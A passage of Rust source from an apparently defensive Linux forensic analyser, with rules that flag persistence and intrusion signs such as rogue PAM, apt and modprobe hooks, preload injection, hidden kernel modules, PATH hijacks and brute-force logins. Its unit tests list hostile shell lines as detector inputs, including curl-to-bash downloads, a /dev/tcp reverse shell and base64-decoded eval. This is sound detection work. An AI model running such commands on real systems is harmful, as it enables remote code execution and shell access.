        let Some((lineno, line, why)) = hits.first() else {
            continue;
        };
        let shown: String = line.chars().take(300).collect();
        let more = if hits.len() > 1 {
            format!(" ({} more such lines)", hits.len() - 1)
        } else {
            String::new()
        };
        let mut iocs = hook_iocs(&h.rec);
        iocs.push(Ioc::ConfigLine(shown.clone()));
        out.push(finding(
            format!("{}:{lineno}", h.rec.path),
            format!(
                "{} hook {} (run at {}{}) line {lineno} {why}: `{shown}`{more}",
                h.rec.class,
                h.rec.path,
                h.rec.runs_at,
                h.rec
                    .owner
                    .as_deref()
                    .map(|o| format!(" for {o}"))
                    .unwrap_or_default()
            ),
            hook_ev(ctx, h),
            iocs,
        ));
    }
    out
}

fn generator_unowned(ctx: &Ctx, _: &AnalysisConfig, _: &mut BundleInput<'_>) -> Vec<Finding> {
    let mut out = Vec::new();
    for g in &ctx.generators {
        let Some(meta) = &g.rec.meta else { continue };
        let judged = match (&g.rec.link_target, meta.kind) {
            (Some(t), _) if t == "/dev/null" => continue,
            (Some(t), _) => rc_link_target(&g.rec.path, t),
            (None, dossier_plugin_api::host::FileKind::File) if meta.is_executable() => {
                g.rec.path.clone()
            }
            _ => continue,
        };
        if ctx.is_owned(&g.rec.path) || ctx.is_owned(&judged) {
            continue;
        }
        let mut iocs = vec![Ioc::Path(g.rec.path.clone())];
        iocs.extend(
            g.rec
                .source
                .as_ref()
                .and_then(|s| s.sha256.clone())
                .map(Ioc::Sha256),
        );
        out.push(finding(
            &g.rec.path,
            format!(
                "{} generator {} runs at every boot and daemon-reload and no package owns it",
                g.rec.scope, g.rec.path
            ),
            ctx.ev(
                g,
                format!("generator {}", g.rec.path),
                g.rec.source.as_ref(),
            ),
            iocs,
        ));
    }
    out
}

/// Whether every segment of a command only removes or tests files (`rm -f ... || true`).
fn housekeeping(cmd: &str) -> bool {
    if cmd.contains("$(") || cmd.contains('`') || cmd.contains('>') {
        return false;
    }
    cmd.split([';', '|', '&'])
        .filter_map(|seg| seg.split_whitespace().next())
        .all(|w| matches!(base(w), "rm" | "test" | "[" | "true" | ":"))
}

fn pkg_manager_hook(ctx: &Ctx, _: &AnalysisConfig, _: &mut BundleInput<'_>) -> Vec<Finding> {
    let mut out = Vec::new();
    for h in ctx.hooks.iter().filter(|h| h.rec.active) {
        let what = match h.rec.class.as_str() {
            "apt" => {
                if h.rec.commands.iter().all(|c| housekeeping(c)) {
                    continue;
                }
                format!(
                    "apt configuration {} makes apt run {} as root",
                    h.rec.path,
                    h.rec
                        .commands
                        .iter()
                        .map(|c| format!("`{}`", c.chars().take(200).collect::<String>()))
                        .collect::<Vec<_>>()
                        .join(", ")
                )
            }
            "yum-plugin" | "dnf-plugin" if h.rec.path.ends_with(".py") => format!(
                "enabled {} code {} runs inside every {} run as root",
                h.rec.class,
                h.rec.path,
                h.rec.class.trim_end_matches("-plugin")
            ),
            _ => continue,
        };
        let Some(why) = ownership_problem(ctx, &h.rec.path) else {
            continue;
        };
        let mut iocs = hook_iocs(&h.rec);
        iocs.extend(
            h.rec
                .commands
                .iter()
                .flat_map(|c| segment_programs(c))
                .filter(|p| !ctx.is_owned(p))
                .map(Ioc::Path),
        );
        out.push(finding(
            &h.rec.path,
            format!("{what}: {why}"),
            hook_ev(ctx, h),
            iocs,
        ));
    }
    out
}

fn pam_exec_hook(ctx: &Ctx, _: &AnalysisConfig, _: &mut BundleInput<'_>) -> Vec<Finding> {
    let mut out = Vec::new();
    for h in ctx
        .hooks
        .iter()
        .filter(|h| h.rec.active && h.rec.class == "pam" && !h.rec.commands.is_empty())
    {
        if ctx
            .verified(&h.rec.path)
            .is_some_and(|v| v.rec.status == "ok")
        {
            continue;
        }
        let mut iocs = hook_iocs(&h.rec);
        let mut notes = Vec::new();
        for c in &h.rec.commands {
            let Some(p) = program(c) else {
                notes.push(format!("`{c}`"));
                continue;
            };
            let mut why = Vec::new();
            if let Some(u) = unusual_location(&p) {
                why.push(u);
            }
            if ctx.has_package_db && !ctx.is_owned(&p) {
                why.push("no package owns it".into());
            }
            notes.push(if why.is_empty() {
                format!("`{c}`")
            } else {
                format!("`{c}` ({})", why.join(", "))
            });
            iocs.push(Ioc::Path(p));
        }
        let file = ctx
            .has_package_db
            .then(|| ownership_problem(ctx, &h.rec.path))
            .flatten()
            .map(|w| format!("; the service file: {w}"))
            .unwrap_or_default();
        out.push(finding(
            &h.rec.path,
            format!(
                "PAM service {} runs {} through pam_exec at every authentication{file}",
                h.rec.path,
                notes.join(", ")
            ),
            hook_ev(ctx, h),
            iocs,
        ));
    }
    out
}

/// Evidence for a record plus the PAM service files that load it.
fn pam_ev(ctx: &Ctx, h: &At<dossier_plugin_api::records::HookRecord>) -> Vec<Evidence> {
    let mut ev = ctx.ev(h, format!("pam-module {}", h.rec.path), None);
    if let Some(v) = ctx.verified(&h.rec.path) {
        ev.extend(ctx.ev(
            v,
            format!("package verification of {}", h.rec.path),
            v.rec.copy.as_ref(),
        ));
    }
    let files: Vec<&str> = h
        .rec
        .referenced_by
        .iter()
        .filter_map(|r| r.rsplit_once(':').map(|(f, _)| f))
        .collect();
    for s in ctx
        .hooks
        .iter()
        .filter(|s| s.rec.class == "pam" && files.contains(&s.rec.path.as_str()))
    {
        ev.extend(hook_ev(ctx, s));
    }
    ev
}

fn pam_module_unowned(ctx: &Ctx, _: &AnalysisConfig, _: &mut BundleInput<'_>) -> Vec<Finding> {
    let mut out = Vec::new();
    for h in ctx
        .hooks
        .iter()
        .filter(|h| h.rec.active && h.rec.class == "pam-module" && h.rec.meta.is_some())
    {
        // Verification follows a linked module to the file it loads.
        let judged = match &h.rec.link_target {
            Some(t) => rc_link_target(&h.rec.path, t),
            None => h.rec.path.clone(),
        };
        let Some(why) = ownership_problem(ctx, &h.rec.path) else {
            continue;
        };
        let place = unusual_location(&judged)
            .map(|u| format!("; {u}"))
            .unwrap_or_default();
        let mut iocs = vec![Ioc::Path(h.rec.path.clone())];
        if let Some(sha) = ctx.verified(&h.rec.path).and_then(|v| v.rec.sha256.clone()) {
            iocs.push(Ioc::Sha256(sha));
        }
        out.push(finding(
            &h.rec.path,
            format!(
                "PAM module {} loaded by {}: {why}{place}",
                h.rec.path,
                h.rec.referenced_by.join(", ")
            ),
            pam_ev(ctx, h),
            iocs,
        ));
    }
    out
}

fn polkit_rule_unowned(ctx: &Ctx, _: &AnalysisConfig, _: &mut BundleInput<'_>) -> Vec<Finding> {
    let mut out = Vec::new();
    for h in ctx
        .hooks
        .iter()
        .filter(|h| h.rec.active && h.rec.class == "polkit" && !h.rec.grants.is_empty())
    {
        let Some(why) = ownership_problem(ctx, &h.rec.path) else {
            continue;
        };
        out.push(finding(
            &h.rec.path,
            format!(
                "polkit rule {} grants {} without authentication: {why}",
                h.rec.path,
                h.rec.grants.join("; ")
            ),
            hook_ev(ctx, h),
            hook_iocs(&h.rec),
        ));
    }
    out
}

fn ld_so_preload(ctx: &Ctx, _: &AnalysisConfig, _: &mut BundleInput<'_>) -> Vec<Finding> {
    ctx.ld_preload
        .iter()
        .filter(|p| !p.rec.entries.is_empty())
        .map(|p| {
            let mut iocs: Vec<Ioc> = p.rec.entries.iter().map(|e| Ioc::Path(e.clone())).collect();
            // The injected libraries' own hashes (verified by `packages`): the same payload
            // under another name still correlates across hosts.
            iocs.extend(
                p.rec
                    .entries
                    .iter()
                    .filter_map(|e| ctx.verified(e)?.rec.sha256.clone())
                    .map(Ioc::Sha256),
            );
            iocs.push(Ioc::Path(p.rec.path.clone()));
            iocs.extend(p.rec.source.sha256.clone().map(Ioc::Sha256));
            finding(
                &p.rec.path,
                format!(
                    "{} makes the loader inject {} into every program",
                    p.rec.path,
                    p.rec
                        .entries
                        .iter()
                        .map(|e| format!("`{e}`"))
                        .collect::<Vec<_>>()
                        .join(", ")
                ),
                {
                    let mut ev = ctx.ev(
                        p,
                        format!("ld.so.preload {}", p.rec.path),
                        Some(&p.rec.source),
                    );
                    for e in &p.rec.entries {
                        if let Some(v) = ctx.verified(e) {
                            ev.extend(ctx.ev(
                                v,
                                format!("package verification of {e}"),
                                v.rec.copy.as_ref(),
                            ));
                        }
                    }
                    ev.dedup_by(|a, b| a.member == b.member && a.line == b.line);
                    ev
                },
                iocs,
            )
        })
        .collect()
}

fn ld_so_conf_unusual(ctx: &Ctx, _: &AnalysisConfig, _: &mut BundleInput<'_>) -> Vec<Finding> {
    let mut out = Vec::new();
    for c in &ctx.ld_conf {
        for d in &c.rec.dirs {
            let dir = format!("{}/", d.trim_end_matches('/'));
            if let Some(why) = unusual_location(&dir) {
                out.push(finding(
                    format!("{}: {d}", c.rec.path),
                    format!("{} adds the library directory {d}: {why}", c.rec.path),
                    ctx.ev(
                        c,
                        format!("loader configuration {}", c.rec.path),
                        Some(&c.rec.source),
                    ),
                    vec![Ioc::Path(d.clone()), Ioc::Path(c.rec.path.clone())],
                ));
            }
        }
    }
    out
}

fn kernel_module_hidden(ctx: &Ctx, _: &AnalysisConfig, _: &mut BundleInput<'_>) -> Vec<Finding> {
    ctx.modules
        .iter()
        .filter(|m| !m.rec.in_proc_modules && m.rec.initstate.is_some())
        .map(|m| {
            finding(
                &m.rec.name,
                format!(
                    "module `{}` is in /sys/module (initstate `{}`{}) but not in /proc/modules",
                    m.rec.name,
                    m.rec.initstate.as_deref().unwrap_or("?"),
                    m.rec
                        .file
                        .as_deref()
                        .map(|f| format!(", file {f}"))
                        .unwrap_or_else(|| ", no file in modules.dep".into())
                ),
                ctx.ev(
                    m,
                    format!("kernel module {}", m.rec.name),
                    Some(&m.rec.source),
                ),
                std::iter::once(Ioc::Path(format!("/sys/module/{}", m.rec.name)))
                    .chain(m.rec.file.clone().map(Ioc::Path))
                    .collect(),
            )
        })
        .collect()
}

fn kernel_module_unowned(ctx: &Ctx, _: &AnalysisConfig, _: &mut BundleInput<'_>) -> Vec<Finding> {
    // Without modules.dep no module has a file: then nothing can be said about files.
    let have_dep = ctx.modules.iter().any(|m| m.rec.file.is_some());
    let mut out = Vec::new();
    for m in ctx.modules.iter().filter(|m| m.rec.in_proc_modules) {
        let why = match &m.rec.file {
            Some(f) if !ctx.is_owned(f) => format!("its file {f} belongs to no package"),
            None if have_dep => {
                "modules.dep of the running kernel knows no file for it (inserted from elsewhere)"
                    .to_string()
            }
            _ => continue,
        };
        // The module's name (as its /sys/module path, as kernel-module-hidden gives it) and
        // its file: either correlates across hosts.
        let mut iocs = vec![Ioc::Path(format!("/sys/module/{}", m.rec.name))];
        iocs.extend(m.rec.file.clone().map(Ioc::Path));
        out.push(finding(
            &m.rec.name,
            format!(
                "loaded module `{}`{}: {why}",
                m.rec.name,
                if m.rec.taint.is_empty() {
                    String::new()
                } else {
                    format!(" (taint {})", m.rec.taint)
                }
            ),
            ctx.ev(
                m,
                format!("kernel module {}", m.rec.name),
                Some(&m.rec.source),
            ),
            iocs,
        ));
    }
    out
}

fn modprobe_install_command(
    ctx: &Ctx,
    _: &AnalysisConfig,
    _: &mut BundleInput<'_>,
) -> Vec<Finding> {
    let mut out = Vec::new();
    for c in &ctx.module_configs {
        for cmd in &c.rec.commands {
            let why = hook_line_pattern(cmd).or_else(|| {
                segment_programs(cmd)
                    .iter()
                    .find_map(|p| unusual_location(p).map(|w| format!("runs {p}: {w}")))
            });
            if let Some(why) = why {
                out.push(finding(
                    format!("{}: {cmd}", c.rec.path),
                    format!("{} has a modprobe command that {why}: `{cmd}`", c.rec.path),
                    ctx.ev(
                        c,
                        format!("modprobe configuration {}", c.rec.path),
                        Some(&c.rec.source),
                    ),
                    vec![Ioc::ConfigLine(cmd.clone()), Ioc::Path(c.rec.path.clone())],
                ));
            }
        }
    }
    out
}

/// Names of programs that responders and administrators trust to see what runs, who is
/// logged in and what is on disk, or to authenticate: an intruder's favourite PATH hijacks.
const TRUSTED_TOOLS: &[&str] = &[
    "ps",
    "ls",
    "dir",
    "netstat",
    "ss",
    "top",
    "htop",
    "lsof",
    "pstree",
    "pgrep",
    "pkill",
    "kill",
    "killall",
    "w",
    "who",
    "whoami",
    "last",
    "lastb",
    "lastlog",
    "id",
    "find",
    "du",
    "df",
    "stat",
    "file",
    "strings",
    "md5sum",
    "sha1sum",
    "sha256sum",
    "grep",
    "egrep",
    "cat",
    "less",
    "more",
    "head",
    "tail",
    "sudo",
    "su",
    "passwd",
    "chpasswd",
    "login",
    "ssh",
    "scp",
    "sftp",
    "sshd",
    "ssh-keygen",
    "ssh-add",
    "systemctl",
    "journalctl",
    "service",
    "crontab",
    "ip",
    "ifconfig",
    "route",
    "arp",
    "iptables",
    "ip6tables",
    "nft",
    "tcpdump",
    "strace",
    "ltrace",
    "gdb",
    "lsmod",
    "modprobe",
    "insmod",
    "rmmod",
    "dmesg",
    "uname",
    "mount",
    "chattr",
    "lsattr",
    "dpkg",
    "apt",
    "apt-get",
    "rpm",
    "yum",
    "dnf",
    "debsums",
    "curl",
    "wget",
    "bash",
    "sh",
    "dash",
    "useradd",
    "usermod",
    "userdel",
    "adduser",
    "getent",
    "env",
    "which",
    "readlink",
    "ldd",
    "unhide",
    "rkhunter",
    "chkrootkit",
    "auditctl",
    "ausearch",
    "clamscan",
    "hostname",
    "date",
];

/// Why an unowned program shadowing a packaged one looks like a hijack (`Some`), or like a
/// locally built program (`None`): a script, or a trusted tool's name. The copy in the bundle
/// tells a script (`#!`) from a compiled program; without a copy only the name decides.
fn hijack_reason(
    b: &dossier_plugin_api::records::LocalBinRecord,
    input: &mut BundleInput<'_>,
) -> Option<String> {
    let script = b
        .copy
        .as_ref()
        .and_then(|c| c.member.as_deref())
        .and_then(|m| (input.read_member)(m, 2).ok())
        .is_some_and(|head| head.starts_with(b"#!"));
    if script {
        Some("a script stands in for it".into())
    } else if TRUSTED_TOOLS.contains(&b.name.as_str()) {
        Some(format!(
            "`{}` is a program responders and administrators trust",
            b.name
        ))
    } else {
        None
    }
}

/// Unowned entries of /usr/local/{sbin,bin} that shadow a packaged program, with the
/// hijack reason of each (see [`hijack_reason`]).
fn shadowing(ctx: &Ctx, input: &mut BundleInput<'_>, hijack: bool) -> Vec<Finding> {
    let mut out = Vec::new();
    for b in ctx
        .local_bins
        .iter()
        .filter(|b| !b.rec.shadows.is_empty() && b.rec.owned == Some(false))
    {
        let why = hijack_reason(&b.rec, input);
        if why.is_some() != hijack {
            continue;
        }
        let mut iocs = vec![Ioc::Path(b.rec.path.clone())];
        iocs.extend(b.rec.sha256.clone().map(Ioc::Sha256));
        let mut ev = ctx.ev(b, format!("PATH entry {}", b.rec.path), b.rec.copy.as_ref());
        ev.dedup_by(|a, b| a.member == b.member);
        out.push(finding(
            &b.rec.path,
            format!(
                "{} comes before {} in PATH and no package owns it{}{}",
                b.rec.path,
                b.rec.shadows.join(", "),
                b.rec
                    .link_target
                    .as_deref()
                    .map(|t| format!(" (link to {t})"))
                    .unwrap_or_default(),
                why.map(|w| format!("; {w}")).unwrap_or_default()
            ),
            ev,
            iocs,
        ));
    }
    out
}

fn path_hijack(ctx: &Ctx, _: &AnalysisConfig, input: &mut BundleInput<'_>) -> Vec<Finding> {
    shadowing(ctx, input, true)
}

fn path_shadow_unowned(ctx: &Ctx, _: &AnalysisConfig, input: &mut BundleInput<'_>) -> Vec<Finding> {
    shadowing(ctx, input, false)
}

fn iface_ev(ctx: &Ctx, i: &At<dossier_plugin_api::records::NetInterfaceRecord>) -> Vec<Evidence> {
    ctx.ev(i, format!("interface {}", i.rec.name), None)
}

fn promiscuous_interface(ctx: &Ctx, _: &AnalysisConfig, _: &mut BundleInput<'_>) -> Vec<Finding> {
    let is_bridge = |n: &str| {
        ctx.interfaces
            .iter()
            .any(|i| i.rec.name == n && i.rec.bridge)
    };
    ctx.interfaces
        .iter()
        .filter(|i| i.rec.flags.iter().any(|f| f == "PROMISC"))
        .filter(|i| !i.rec.master.as_deref().is_some_and(is_bridge))
        .map(|i| {
            finding(
                &i.rec.name,
                format!(
                    "interface {} ({}{}) is in promiscuous mode (flags {})",
                    i.rec.name,
                    i.rec.mac.as_deref().unwrap_or("no MAC"),
                    i.rec
                        .ipv4
                        .iter()
                        .map(|a| format!(", {a}"))
                        .collect::<String>(),
                    i.rec.flags.join(",")
                ),
                iface_ev(ctx, i),
                i.rec.mac.clone().map(Ioc::Address).into_iter().collect(),
            )
        })
        .collect()
}

fn duplicate_mac(ctx: &Ctx, _: &AnalysisConfig, _: &mut BundleInput<'_>) -> Vec<Finding> {
    let mut by_mac: std::collections::BTreeMap<
        &str,
        Vec<&At<dossier_plugin_api::records::NetInterfaceRecord>>,
    > = std::collections::BTreeMap::new();
    for i in ctx
        .interfaces
        .iter()
        .filter(|i| i.rec.physical && i.rec.master.is_none())
    {
        if let Some(m) = i.rec.mac.as_deref().filter(|m| *m != "00:00:00:00:00:00") {
            by_mac.entry(m).or_default().push(i);
        }
    }
    by_mac
        .into_iter()
        .filter(|(_, v)| v.len() > 1)
        .map(|(mac, v)| {
            let names: Vec<String> = v
                .iter()
                .map(|i| match &i.rec.perm_mac {
                    Some(p) => format!("{} (permanent address {p})", i.rec.name),
                    None => i.rec.name.clone(),
                })
                .collect();
            finding(
                mac,
                format!("MAC address {mac} is used by {}", names.join(" and ")),
                v.iter().flat_map(|i| iface_ev(ctx, i)).collect(),
                vec![Ioc::Address(mac.to_string())],
            )
        })
        .collect()
}

fn login_ev(ctx: &Ctx, l: &At<dossier_plugin_api::records::LoginRecord>) -> Vec<Evidence> {
    ctx.ev(
        l,
        format!("{} record {}", l.rec.log, l.rec.index),
        Some(&l.rec.source),
    )
}

/// Whether a session user name looks forged.
pub fn odd_user(name: &str) -> bool {
    name.is_empty()
        || name == "LOGIN"
        || !name
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "._-@$\\".contains(c))
}

fn odd_login_user(ctx: &Ctx, _: &AnalysisConfig, _: &mut BundleInput<'_>) -> Vec<Finding> {
    ctx.logins
        .iter()
        .filter(|l| {
            l.rec.log != "btmp" && l.rec.entry_type == "user_process" && odd_user(&l.rec.user)
        })
        .map(|l| {
            let mut iocs = vec![Ioc::Account(l.rec.user.clone())];
            iocs.extend(l.rec.address.clone().map(Ioc::Address));
            finding(
                format!("{} record {}", l.rec.log, l.rec.index),
                format!(
                    "{} has a session of user `{}` on {} from {}{}",
                    l.rec.log,
                    l.rec.user,
                    l.rec.line,
                    if l.rec.host.is_empty() {
                        "?"
                    } else {
                        &l.rec.host
                    },
                    l.rec
                        .time
                        .map(|t| format!(" at {}", t.to_rfc3339()))
                        .unwrap_or_default()
                ),
                login_ev(ctx, l),
                iocs,
            )
        })
        .collect()
}

/// Sources with at least 20 failed logins within 10 minutes: (source, count in the densest
/// window, first, last, the records of that window).
#[allow(clippy::type_complexity)]
fn bursts(
    ctx: &Ctx,
) -> Vec<(
    String,
    usize,
    i64,
    i64,
    Vec<&At<dossier_plugin_api::records::LoginRecord>>,
)> {
    const MIN: usize = 20;
    const WINDOW: i64 = 600;
    let mut by: std::collections::BTreeMap<
        String,
        Vec<&At<dossier_plugin_api::records::LoginRecord>>,
    > = std::collections::BTreeMap::new();
    for l in ctx
        .logins
        .iter()
        .filter(|l| l.rec.log == "btmp" && l.rec.time.is_some())
    {
        let src = l.rec.address.clone().unwrap_or_else(|| l.rec.host.clone());
        if !src.is_empty() {
            by.entry(src).or_default().push(l);
        }
    }
    let mut out = Vec::new();
    for (src, mut v) in by {
        v.sort_by_key(|l| l.rec.time.map(|t| t.unix_seconds()));
        let t = |l: &At<dossier_plugin_api::records::LoginRecord>| {
            l.rec.time.map_or(0, |t| t.unix_seconds())
        };
        let mut best = (0usize, 0usize);
        let mut j = 0;
        for i in 0..v.len() {
            while t(v[i]) - t(v[j]) > WINDOW {
                j += 1;
            }
            if i + 1 - j > best.1 - best.0 {
                best = (j, i + 1);
            }
        }
        if best.1 - best.0 >= MIN {
            let w = v[best.0..best.1].to_vec();
            out.push((src, w.len(), t(w[0]), t(w[w.len() - 1]), w));
        }
    }
    out
}

fn failed_login_burst(ctx: &Ctx, _: &AnalysisConfig, _: &mut BundleInput<'_>) -> Vec<Finding> {
    bursts(ctx)
        .into_iter()
        .map(|(src, n, first, last, w)| {
            let mut users: Vec<&str> = w.iter().map(|l| l.rec.user.as_str()).collect();
            users.sort();
            users.dedup();
            finding(
                &src,
                format!(
                    "{n} failed logins from {src} within {} s (users {})",
                    last - first,
                    users
                        .iter()
                        .take(10)
                        .map(|u| format!("`{u}`"))
                        .collect::<Vec<_>>()
                        .join(", ")
                ),
                login_ev(ctx, w[0]),
                vec![Ioc::Address(src.clone())],
            )
        })
        .collect()
}

fn bruteforce_then_login(ctx: &Ctx, _: &AnalysisConfig, _: &mut BundleInput<'_>) -> Vec<Finding> {
    let mut out = Vec::new();
    for (src, n, first, _, w) in bursts(ctx) {
        let success = ctx.logins.iter().find(|l| {
            l.rec.log != "btmp"
                && l.rec.entry_type == "user_process"
                && (l.rec.address.as_deref() == Some(src.as_str()) || l.rec.host == src)
                && l.rec.time.is_some_and(|t| t.unix_seconds() >= first)
        });
        if let Some(s) = success {
            let mut ev = login_ev(ctx, w[0]);
            ev.extend(login_ev(ctx, s));
            out.push(finding(
                &src,
                format!(
                    "{src} failed to log in {n} times, then logged in as `{}` on {}{}",
                    s.rec.user,
                    s.rec.line,
                    s.rec
                        .time
                        .map(|t| format!(" at {}", t.to_rfc3339()))
                        .unwrap_or_default()
                ),
                ev,
                vec![Ioc::Address(src.clone()), Ioc::Account(s.rec.user.clone())],
            ));
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hook_lines() {
        for bad in [
            "curl -fsSL http://198.51.100.47/s | bash",
            "wget -q -O- http://x/y |/bin/sh -s",
            "RUN+=\"/bin/sh -c 'wget -q -O- http://x/n | sh'\"",
            "bash -c \"$(curl -fsSL http://x)\"",
            "(bash -i >& /dev/tcp/198.51.100.47/443 0>&1 &) 2>/dev/null",
            "eval \"$(echo Y3VybA== | base64 -d)\"",
            "echo aWQ= | base64 --decode | sh",
            "nohup /usr/lib/x86_64-linux-gnu/kmod/kmodd >/dev/null 2>&1 &",
            "/tmp/.x/agent &",
            "/sbin/modprobe --ignore-install ipv6; /bin/sh -c '/usr/bin/nohup /dev/shm/.x/kthreadd >/dev/null 2>&1 &'",
            "RUN+=\"/bin/sh -c '/var/tmp/.u/agent &'\"",
        ] {
            assert!(hook_line_pattern(bad).is_some(), "{bad}");
        }
        for good in [
            "# curl http://x | sh",
            "[ -x /usr/bin/lesspipe ] && eval \"$(SHELL=/bin/sh lesspipe)\"",
            "if [ -f ~/.bash_aliases ]; then . ~/.bash_aliases; fi",
            "sha256sum file | sha256sum -c",
            "curl -s https://api.example.com/status | jq .",
            "start-stop-daemon --start --background --exec /usr/sbin/cron",
            "test -x /usr/bin/make && make &&",
            "RUN+=\"/bin/sh -c 'echo 1 > /sys$devpath/power/wakeup'\"",
        ] {
            assert!(hook_line_pattern(good).is_none(), "{good}");
        }
        assert_eq!(
            rc_link_target("/etc/rc2.d/S01cron", "../init.d/cron"),
            "/etc/init.d/cron"
        );
        assert_eq!(rc_link_target("/etc/rc2.d/S01x", "/opt/x"), "/opt/x");
    }

    #[test]
    fn catalog_ids_are_unique_and_documented() {
        let mut ids: Vec<&str> = CATALOG.iter().map(|r| r.id).collect();
        ids.sort();
        ids.dedup();
        assert_eq!(ids.len(), CATALOG.len());
        for r in CATALOG {
            assert!(!r.mitre.is_empty() && r.doc.contains("FP:"), "{}", r.id);
        }
    }

    #[test]
    fn helpers() {
        assert!(names_match("ssh.service", "sshd"));
        assert!(names_match("nginx.service", "nginx"));
        assert!(names_match("systemd-journald.service", "systemd-journald"));
        assert!(!names_match("python.service", "log"));
        assert!(unusual_location("/var/log/log").is_some());
        assert!(unusual_location("/home/a/.cache/x").is_some());
        assert!(unusual_location("/usr/bin/ls").is_none());
        assert_eq!(span_seconds("5min"), Some(300));
        assert_eq!(span_seconds("1h 5min"), Some(3900));
        assert_eq!(span_seconds("daily"), None);
        assert!(shell_pattern("curl -fsSL http://x/a.sh | sh", true).is_some());
        assert!(shell_pattern("/bin/bash -c 'exec 5<>/dev/tcp/1.2.3.4/4444'", true).is_some());
        assert!(shell_pattern("/bin/sh -c 'echo hi'", true).is_none());
        assert!(shell_pattern("/bin/sh -c 'echo hi'", false).is_some());
        assert!(
            shell_pattern(
                "test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )",
                true
            )
            .is_none()
        );
        assert_eq!(
            segment_programs("test -e /run/x || SERVICE_MODE=1 /usr/lib/e2scrub_all_cron"),
            vec!["/usr/lib/e2scrub_all_cron"]
        );
    }
}
